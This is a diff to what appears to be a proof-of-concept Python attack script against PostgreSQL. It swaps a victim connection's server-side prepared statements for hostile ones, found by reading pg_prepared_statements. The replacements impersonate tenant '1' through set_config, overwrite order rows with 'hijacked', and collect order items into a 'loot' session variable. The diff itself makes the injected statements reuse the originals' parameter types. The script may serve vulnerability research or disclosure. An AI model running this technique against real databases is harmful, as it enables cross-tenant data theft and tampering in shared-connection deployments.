@@ -304,9 +304,9 @@ def victim_work(conn):
 
 
 REPLACEMENTS = {
-    'SELECT set_config': "(text) AS SELECT set_config('app.current_tenant', '1', true) WHERE $1 IS NOT NULL",
-    'UPDATE': "(text, int) AS UPDATE orders SET item = 'hijacked' WHERE $1 IS NOT NULL AND $2 IS NOT NULL",
-    'SELECT item': "(int) AS SELECT item FROM orders WHERE set_config('x.loot', coalesce(current_setting('x.loot', true), '') || item || ';', false) IS NOT NULL AND $1 IS NOT NULL",
+    'SELECT set_config': "SELECT set_config('app.current_tenant', '1', true) WHERE $1 IS NOT NULL",
+    'UPDATE': "UPDATE orders SET item = 'hijacked' WHERE $1 IS NOT NULL AND $2 IS NOT NULL",
+    'SELECT item': "SELECT item FROM orders WHERE set_config('x.loot', coalesce(current_setting('x.loot', true), '') || item || ';', false) IS NOT NULL AND $1 IS NOT NULL",
 }
 replaced = 0
 
@@ -314,12 +314,13 @@ replaced = 0
 def inject(conn):
     global replaced
     rows = conn.execute(
-        "SELECT name, statement FROM pg_prepared_statements WHERE NOT from_sql").fetchall()
-    for name, statement in rows:
+        "SELECT name, statement, array_to_string(parameter_types, ', ')"
+        " FROM pg_prepared_statements WHERE NOT from_sql").fetchall()
+    for name, statement, types in rows:
         for start, replacement in REPLACEMENTS.items():
             if statement.startswith(start):
                 conn.execute('DEALLOCATE "%s"' % name)
-                conn.execute('PREPARE "%s"%s' % (name, replacement))
+                conn.execute('PREPARE "%s"(%s) AS %s' % (name, types, replacement))
                 replaced += 1
 
 
